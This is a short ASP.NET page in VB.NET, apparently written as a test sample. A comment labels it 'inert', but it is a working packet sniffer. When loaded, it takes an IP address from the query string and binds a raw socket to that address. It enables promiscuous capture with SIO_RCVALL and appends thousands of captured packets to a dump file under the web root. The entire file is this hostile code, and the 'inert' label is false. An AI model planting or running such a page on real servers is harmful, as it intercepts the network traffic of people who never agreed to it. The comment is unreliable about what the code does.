<%@ Page Language="VB" %>
<%@ Import Namespace="System.Net" %>
<%@ Import Namespace="System.Net.Sockets" %>
<%@ Import Namespace="System.IO" %>
<script runat="server">
    ' inert test sample: the same capture written in VB.NET with the numeric control code
    Const SIO_RCVALL As Integer = &H98000001

    Sub Page_Load(sender As Object, e As EventArgs)
        Dim host As String = Request.QueryString("ip")
        If String.IsNullOrEmpty(host) Then Exit Sub
        Dim s As New Socket(AddressFamily.InterNetwork, SocketType.Raw, ProtocolType.IP)
        s.Bind(New IPEndPoint(IPAddress.Parse(host), 0))
        s.IOControl(SIO_RCVALL, BitConverter.GetBytes(1), Nothing)
        Dim buf(65535) As Byte
        Dim outFile As String = Server.MapPath("dump.bin")
        Using fs As New FileStream(outFile, FileMode.Append)
            For i As Integer = 1 To 5000
                Dim n As Integer = s.Receive(buf)
                fs.Write(buf, 0, n)
            Next
        End Using
        s.Close()
    End Sub
</script>
